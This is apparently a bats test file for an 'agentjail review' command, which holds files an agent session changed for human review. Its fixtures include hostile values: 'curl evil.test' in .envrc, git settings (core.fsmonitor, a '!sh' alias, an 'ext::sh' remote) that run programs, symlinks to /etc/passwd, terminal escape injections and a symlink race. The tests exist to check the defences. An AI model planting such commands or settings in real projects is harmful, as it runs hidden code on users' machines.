#!/usr/bin/env bats
# Proves: review shows what was held back, fit for a terminal whatever is in it; applies exactly what it
# read, into the project and through no link, and only onto a file that is still the one that was held;
# drops what it is told to; and stumbles over nothing that a cell could leave in a store.

setup() {
	load lib.bash
	new_home
	mkdir -p "$project/.git" "$project/.vscode"
	printf '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://h/x\n' >"$project/.git/config"
	held=$HOME/.local/state/agentjail/held/$(key "$project")
}

key() { printf %s "$1" | sha256sum | cut -c1-32; }
entry() { printf %s "$held/$(key "$1")"; }

# store PATH: an entry with no content yet; its directory is $dir.
store() {
	dir=$(entry "$1")
	(umask 077 && mkdir -p "$dir")
	printf %s "$project" >"$held/lock"
	printf %s "$1" >"$dir/path"
}

# hold PATH COPY [BASE]: BASE is the host's file as it is, unless it is given; "-" there is none.
hold() {
	store "$1"
	printf %b "$2" >"$dir/copy"
	if [ $# = 3 ]; then
		[ "$3" = - ] || printf %b "$3" >"$dir/base"
	elif [ -e "$project/$1" ]; then
		cp "$project/$1" "$dir/base"
	fi
}

review() { "$agentjail" review "$@" </dev/null; }

# reviewed STATUS ARGUMENT...: it ends so; what it printed is in $output, stderr in $errors.
reviewed() {
	local want=$1 got=0
	shift
	output=$(review "$@" 2>"$root/err") || got=$?
	# shellcheck disable=SC2034 # the tests use it
	errors=$(cat "$root/err")
	[ "$got" = "$want" ] || { echo "status $got: $output $errors" && return 1; }
}

@test "where nothing waits, nothing is said but that" {
	reviewed 0
	[ "$output" = "no file waits" ]
	hold .envrc "same" "same"
	reviewed 0
	[ "$output" = "no file waits" ]
	reviewed 0 --json
	[ "$output" = "{\"project\": \"$project\", \"held\": [], \"session\": null, \"changed\": []}" ]
	[ ! -e "$HOME/.config/agentjail/agentjail.ini" ]
}

@test "a changed file is shown with what the host would do with it" {
	echo 'export A=1' >.envrc
	hold .envrc 'export A=1\ncurl evil.test\n'
	reviewed 0
	has ".envrc: changed"
	has "the shell loads it"
	has $'@@ -1,1 +1,2 @@\n export A=1\n+curl evil.test\n'
	has "1 file waits"
	[ "$(cat .envrc)" = "export A=1" ] && [ -e "$(entry .envrc)/copy" ]
}

@test "git's configuration is told variable by variable" {
	hold .git/config '[core]\n\tbare = false\n\tfsmonitor = ./evil\n[alias]\n\tst = "!sh x"\n[remote "origin"]\n\turl = ext::sh -c x\n'
	reviewed 0
	has $'core.fsmonitor = ./evil\n      git runs this program at every git status'
	has $'alias.st = !sh x\n      a word behind git'
	has $'remote.origin.url = ext::sh -c x\n      git runs a program to reach'
	hold .git/config '[core\n'
	reviewed 0
	has "git's configuration cannot be told: line "
}

@test "new, removed and executable files are called so" {
	echo x >.vscode/tasks.json
	store .vscode/tasks.json
	cp .vscode/tasks.json "$dir/base" && : >"$dir/gone"
	hold .husky/pre-commit 'sh x\n' -
	printf 755 >"$dir/mode"
	reviewed 0
	has ".husky/pre-commit: new"
	has "it becomes executable"
	has $'@@ -0,0 +1,1 @@\n+sh x\n'
	has ".vscode/tasks.json: removed"
	has $'@@ -1,1 +0,0 @@\n-x\n'
	has "2 files wait"
}

@test "apply writes, makes directories, removes, and forgets; drop forgets" {
	echo x >.vscode/tasks.json && chmod 640 .vscode/tasks.json
	echo gone >.vscode/launch.json
	hold .vscode/tasks.json 'y\n'
	store .vscode/launch.json
	cp .vscode/launch.json "$dir/base" && : >"$dir/gone"
	hold .husky/_/pre-commit 'sh x\n' -
	printf 4777 >"$dir/mode"
	hold .envrc 'drop me\n' -
	umask 022
	reviewed 0 --drop .envrc
	[ "$output" = ".envrc: dropped" ] && [ ! -e .envrc ] && [ ! -e "$(entry .envrc)" ]
	reviewed 0 --apply
	[ "$(cat .vscode/tasks.json)" = y ] && [ "$(stat -c %a .vscode/tasks.json)" = 640 ]
	[ ! -e .vscode/launch.json ]
	[ "$(cat .husky/_/pre-commit)" = "sh x" ] && [ "$(stat -c %a .husky/_/pre-commit)" = 755 ]
	reviewed 0
	[ "$output" = "no file waits" ]
	[ -z "$(find "$project" -name '.agentjail*')" ]
}

@test "while a session has a copy mounted, it is applied and stays, and cannot be dropped" {
	echo one >.envrc
	hold .envrc 'two\n' && hold .exrc 'x\n' -
	store .vimrc && : >"$dir/gone" && echo three >.vimrc && cp .vimrc "$dir/base"
	exec 7<"$held" && flock -s 7
	reviewed 1 --drop
	[ "$(grep -c "a session of the project runs" <<<"$errors")" = 3 ]
	reviewed 0 --apply
	[ "$(cat .envrc .exrc)" = $'two\nx' ] && [ ! -e .vimrc ]
	cmp "$(entry .envrc)/copy" "$(entry .envrc)/base" && cmp "$(entry .exrc)/copy" "$(entry .exrc)/base"
	[ -e "$(entry .vimrc)/gone" ] && [ ! -e "$(entry .vimrc)/base" ]
	reviewed 0
	[ "$output" = "no file waits" ]
	echo more >"$(entry .envrc)/copy"
	reviewed 0
	has ".envrc: changed" && has_not ".exrc"
	exec 7<&-
	reviewed 0 --drop
	[ ! -e "$(entry .envrc)" ] && [ "$(cat .envrc)" = two ]
}

@test "paths are the working directory's, and a directory means what is below it" {
	hold .vscode/a 1 - && hold .vscode/b 2 - && hold .vscodex 3 - && hold sub/.envrc 4 -
	mkdir sub && cd sub
	reviewed 0 .
	has "sub/.envrc" && has_not ".vscode"
	reviewed 0 --apply ../.vscode "$project/sub/.envrc"
	[ "$(cat ../.vscode/a ../.vscode/b .envrc)" = 124 ] && [ ! -e ../.vscodex ]
	reviewed 1 --drop nothing
	[ "$errors" = "agentjail: sub/nothing: nothing of it waits" ]
	fails 125 "is not in the project" review /etc/passwd
	fails 125 "not both" review --apply --drop
	fails 125 "--json lists" review --json --apply
}

@test "what the host changed since is not overwritten unseen" {
	echo one >.envrc
	hold .envrc 'two\n'
	echo three >.envrc
	reviewed 0
	has "changed since it was held"
	has $'-three\n+two\n'
	reviewed 1 --apply
	case $errors in *"has changed since"*) ;; *) false ;; esac
	[ "$(cat .envrc)" = three ] && [ -e "$(entry .envrc)/copy" ]
	hold .new x - && echo mine >.new
	reviewed 1 --apply .new
	[ "$(cat .new)" = mine ]
	echo two >.envrc
	reviewed 0 .envrc
	has "the host has the same by now"
	reviewed 0 --apply .envrc
	[ ! -e "$(entry .envrc)" ]
}

@test "an empty file that only carries a mount is none" {
	: >.envrc
	hold .envrc 'x\n' -
	reviewed 0
	has ".envrc: new"
	reviewed 0 --apply
	[ "$(cat .envrc)" = x ]
	: >.exrc
	store .exrc && : >"$dir/gone"
	reviewed 0
	[ "$output" = "no file waits" ]
}

@test "nothing of a cell's reaches the terminal as it is" {
	hold $'.vscode/\e[2Jx\n' 'a\033]0;x\007b\r\302\233c\n\xe2\x80\xaed\\x1b\tend' -
	hold .git/config '[branch "\033[31m"]\n\tremote = "\\b\033[2J"\n'
	review >"$root/out"
	[ -z "$(LC_ALL=C tr -d '\t\n\040-\176' <"$root/out")" ]
	output=$(cat "$root/out")
	has '.vscode/\x1b[2Jx\x0a: new'
	has '+a\x1b]0;x\x07b\x0d\xc2\x9bc'
	has '+\xe2\x80\xaed\\x1b'
	has '\ No newline at end of file'
	has 'branch.\x1b[31m.remote = \x08\x1b[2J'
	review --json >"$root/json"
	python3 -c 'import json, sys
held = json.load(open(sys.argv[1]))["held"]
assert [h["path"] for h in held] == [".git/config", ".vscode/\x1b[2Jx\n"], held
assert held[0]["variables"][0]["name"] == "branch.\x1b[31m.remote", held
assert held[1]["state"] == "new" and "\\x1b]0" in held[1]["diff"], held' "$root/json"
	[ -z "$(LC_ALL=C tr -d '\n\040-\176' <"$root/json")" ]
}

@test "a copy that is no file, or a huge one, can only be dropped" {
	store fifo && mkfifo "$dir/copy"
	store link && ln -s /etc/passwd "$dir/copy"
	store directory && mkdir "$dir/copy"
	store huge && truncate -s 2M "$dir/copy"
	reviewed 0
	[ "$(grep -c "cannot be shown" <<<"$output")" = 4 ]
	has_not "root:"
	reviewed 1 --apply
	[ "$(grep -c "can only be dropped" <<<"$errors")" = 4 ]
	[ -z "$(find . -name fifo -o -name link -o -name directory -o -name huge)" ]
	reviewed 0 --drop
	[ "$(ls -A "$held")" = lock ]
}

@test "an entry whose path leads out of the project is none" {
	local path
	for path in ../outside /etc/agentjail-test a/../../outside . '' a//b .git/; do
		store "$path"
		echo evil >"$dir/copy"
	done
	store honest
	printf %s other >"$dir/path" && echo evil >"$dir/copy"
	mkdir -m 700 "$held/$(key empty)"
	reviewed 0
	[ "$(grep -c "cannot be shown: its path" <<<"$output")" = 9 ]
	reviewed 1 --apply
	[ -z "$output" ] && [ ! -e ../outside ] && [ ! -e /etc/agentjail-test ] && [ ! -e other ]
	reviewed 0 --drop
	[ "$(ls -A "$held")" = lock ]
}

@test "nothing is read or written through a link" {
	mkdir "$root/outside" && echo secret >"$root/outside/file"
	ln -s "$root/outside" evil
	ln -s "$root/outside/file" link
	ln -s .vscode inside
	hold evil/file 'bad\n' - && hold evil/new 'bad\n' - && hold link 'bad\n' - && hold inside/x 'bad\n' -
	reviewed 0
	[ "$(grep -c "cannot be shown" <<<"$output")" = 4 ]
	has_not secret
	reviewed 1 --apply
	[ "$(cat "$root/outside/file")" = secret ] && [ "$(ls "$root/outside" .vscode)" = "$(
		printf '%s\n' .vscode: '' "$root/outside:" file)" ]
	[ -L link ] && [ -L evil ]
	mkdir place && hold place 'bad\n' -
	mkfifo pipe && hold pipe 'bad\n' -
	reviewed 1 --apply place pipe
	[ -d place ] && [ -p pipe ]
}

@test "a directory that is exchanged for a link meanwhile leads nowhere" {
	command -v python3 >/dev/null || skip "no python3"
	mkdir "$root/outside" real && ln -s "$root/outside" link
	# Exchanges real and link as fast as it can (RENAME_EXCHANGE).
	timeout 60 python3 -c 'import ctypes
libc = ctypes.CDLL(None)
while True:
    libc.renameat2(-100, b"real", -100, b"link", 2)' &
	racer=$!
	local hits=0 done=0
	for _ in {1..150}; do
		hold real/file x -
		review -q --apply >/dev/null 2>&1 && done=$((done + 1))
		[ ! -e "$root/outside/file" ]
		# The control: a name that is followed ends up outside.
		echo x >real/file 2>/dev/null && [ -e "$root/outside/file" ] && hits=$((hits + 1))
		rm -f "$root/outside/file" real/file link/file
	done
	kill "$racer" && wait "$racer" || true
	echo "$done applied, $hits through the link without it"
	[ "$hits" -gt 0 ] && [ "$done" -gt 0 ]
}

@test "a store that others can write is not read" {
	hold .envrc x -
	chmod 770 "$held"
	fails 125 "not yours alone" review
	chmod 700 "$held" && chmod 777 "$(entry .envrc)"
	reviewed 0
	has "not yours alone"
}

@test "a project that moved is another; what waited for it can be dropped" {
	hold .envrc x -
	mkdir "$HOME/else" && mv "$project" "$HOME/else/moved" && cd "$HOME/else/moved"
	reviewed 0
	[ "$output" = "no file waits" ]
	fails 125 "is gone" review --project "$project"
	reviewed 0 --project "$project" --drop
	[ "$output" = ".envrc: dropped" ] && [ ! -e "$(entry .envrc)" ]
}

@test "more files than anybody looks at are said, and can be dropped" {
	hold .envrc x -
	python3 -c 'import hashlib, os, sys
for i in range(4100):
    path = ".vscode/%d" % i
    dir = sys.argv[1] + "/" + hashlib.sha256(path.encode()).hexdigest()[:32]
    os.mkdir(dir, 0o700)
    open(dir + "/path", "w").write(path)
    open(dir + "/copy", "w").write("x\n")' "$held"
	reviewed 1
	case $errors in *"more than 4096 held files"*) ;; *) false ;; esac
	has "4096 files wait"
	reviewed 1 -q --drop
	reviewed 0 -q --drop
	[ "$(ls "$held")" = lock ]
}

@test "XDG_STATE_HOME is where the store is" {
	hold .envrc x -
	export XDG_STATE_HOME=$HOME/elsewhere
	reviewed 0
	[ "$output" = "no file waits" ]
	mv "$HOME/.local/state" "$XDG_STATE_HOME"
	reviewed 0
	has ".envrc: new"
}

@test "what a session changed of files that are not held is named, and nothing else" {
	mkdir -p .github/workflows .claude
	echo one | tee Makefile package.json GEMINI.md .github/workflows/a.yml .claude/settings.json >/dev/null
	works "$agentjail" run -- sh -c 'echo two >>Makefile; rm package.json; echo x >CLAUDE.md
		echo y >.github/workflows/b.yml; cat GEMINI.md; echo z >other; mkdir sub; echo >sub/Makefile'
	reviewed 0
	has "no file waits"
	[ "$(sed '1,/^Not held/d; /^    /d' <<<"$output" | sort | paste -sd' ')" = \
		"  .github/workflows/b.yml   CLAUDE.md   Makefile   package.json" ]
	has "with their secrets"
	works "$agentjail" run -- true
	reviewed 0 --json
	has '"changed": [{"path": "Makefile", "risk": "it runs when somebody builds'
}

@test "an agent's session says so at its end on one line" {
	echo one >Makefile
	"$agentjail" sh -c 'sh -c "echo two >Makefile"; exit 3' 2>"$root/err" </dev/null || [ $? = 3 ]
	[ "$(grep -c . "$root/err")" = 2 ] # the other one says that there is no profile
	grep -qx "agentjail: changed meanwhile, and run or believed later: Makefile; see: agentjail review" "$root/err"
	"$agentjail" -q sh -c 'sh -c "echo three >Makefile"' 2>"$root/err" </dev/null
	[ ! -s "$root/err" ]
	ln -s /etc/passwd CLAUDE.md && ln -s /etc .claude
	"$agentjail" sh -c 'true' 2>"$root/err" </dev/null
	[ "$(grep -c . "$root/err")" = 1 ]
}

@test "from a session over a review to the next session" {
	command -v git >/dev/null || skip "no git"
	rm -rf .git && git init -q . && git remote add origin https://h/x
	echo '{}' >.vscode/settings.json
	local head=${root}/head
	cp .git/config "$head"
	"$agentjail" run -- sh -c 'git config branch.a.remote origin; git config core.fsmonitor ./evil
		echo "{\"a\": 1}" >.vscode/settings.json; echo new >.vscode/tasks.json' 2>"$root/err"
	grep -qx "agentjail: 3 files wait for review: agentjail review" "$root/err"
	printf '[branch "a"]\n\tremote = origin\n' | cat "$head" - | cmp - .git/config
	[ "$(cat .vscode/settings.json)" = '{}' ] && [ ! -e .vscode/tasks.json ]
	reviewed 0
	has "core.fsmonitor = ./evil"
	has_not "branch.a"
	has ".vscode/tasks.json: new"
	# The next session sees them as the first one left them.
	output=$("$agentjail" -q run -- sh -c 'cat .vscode/*; git config core.fsmonitor' 2>/dev/null)
	[ "$output" = $'{"a": 1}\nnew\n./evil' ]
	reviewed 0 --apply .vscode
	[ "$(cat .vscode/settings.json .vscode/tasks.json)" = $'{"a": 1}\nnew' ]
	reviewed 0 --drop
	[ "$output" = ".git/config: dropped" ]
	output=$("$agentjail" -q run -- sh -c 'cat .vscode/*; git config core.fsmonitor || echo none')
	[ "$output" = $'{"a": 1}\nnew\nnone' ]
	reviewed 0
	has "no file waits"
}

@test "applied while a session runs, and held on" {
	command -v git >/dev/null || skip "no git"
	rm -rf .git && git init -q .
	echo one >.vscode/tasks.json
	"$agentjail" -q run -- sh -c 'echo two >.vscode/tasks.json; git config core.pager x; : >ready
		while [ ! -e go ]; do sleep 0.1; done
		cat .vscode/tasks.json; git config core.pager; echo three >.vscode/tasks.json
		git config core.editor y' >"$root/out" 2>"$root/err" &
	local session=$! i
	for ((i = 0; i < 100; i++)); do [ -e ready ] && break || sleep 0.1; done
	reviewed 1 --drop .vscode
	reviewed 0 --apply
	[ "$(cat .vscode/tasks.json)" = two ] && [ "$(git config core.pager)" = x ]
	: >go
	wait "$session"
	[ "$(cat "$root/out")" = $'two\nx' ] && [ ! -s "$root/err" ]
	[ "$(cat .vscode/tasks.json)" = two ] && ! git config core.editor
	reviewed 0
	has $'-two\n+three\n'
	has "core.editor = y"
	has_not "core.pager = x"
}

# keys SECONDS UNTIL TEXT...: review on a terminal.
keys() {
	local seconds=$1
	shift
	output=$(python3 "$top/tests/e2e/type.py" "$seconds" "$@" -- "$agentjail" review | tr -d '\r')
}

@test "on a terminal one key a file is asked for" {
	command -v python3 >/dev/null || skip "no python3"
	echo one >.envrc
	hold .envrc 'two\n' && hold .exrc 'three\n' - && hold .vimrc 'four\n' -
	keys 30 'uit\?' v 'uit\?' x '' a 'exrc.*uit\?' d 'vimrc.*uit\?' s
	has "[a]pply, [d]rop, [s]kip, [v]iew again, [q]uit? apply"
	has "1 applied, 1 dropped, 1 left"
	[ "$(cat .envrc)" = two ] && [ ! -e .exrc ] && [ ! -e "$(entry .exrc)" ] && [ -e "$(entry .vimrc)" ]
	[ "$(grep -c '^\.envrc: changed' <<<"$output")" = 2 ]
	keys 20 'uit\?' '\x03'
	has "0 applied, 0 dropped, 1 left"
}

@test "after a long difference what counts is said again" {
	command -v python3 >/dev/null || skip "no python3"
	hold .envrc "$(seq 50)" -
	keys 20 '\+50.*\.envrc:new.*uit\?' q
	[ "$(grep -c '^\.envrc: new' <<<"$output")" = 2 ]
	has "0 applied, 0 dropped, 1 left"
}

@test "what changes between look and key is shown again" {
	command -v python3 >/dev/null || skip "no python3"
	echo one >.envrc
	hold .envrc 'two\n'
	(sleep 3 && printf 'evil\n' >"$(entry .envrc)/copy") &
	# 250 keys that mean nothing take more than three seconds.
	keys 30 'two.*uit\?' "$(printf 'x%.0s' {1..250})" '' a 'evil.*uit\?' s
	has "It has changed meanwhile"
	[ "$(cat .envrc)" = one ]
	echo changed >.envrc
	keys 20 'changedsince.*uit\?' a
	[ "$(cat .envrc)" = evil ]
}
